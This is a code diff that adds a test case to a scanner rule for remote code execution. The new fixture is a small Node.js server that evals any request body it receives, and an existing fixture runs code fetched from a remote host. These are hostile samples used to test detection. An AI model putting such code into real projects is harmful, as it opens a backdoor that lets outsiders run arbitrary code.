@@ -52,6 +52,14 @@ export const remoteCode: Rule = {
               "axios.get('https://json.invalid/x').catch(error => new Function('require', error.response.data)(require))\n",
           },
         },
+        {
+          title: 'a server runs what it is sent',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
+            'index.js':
+              "require('http').createServer((message, answer) => {\n  message.on('data', part => answer.end(String(eval(part.toString()))))\n}).listen(8080)\n",
+          },
+        },
       ],
       passes: [
         {
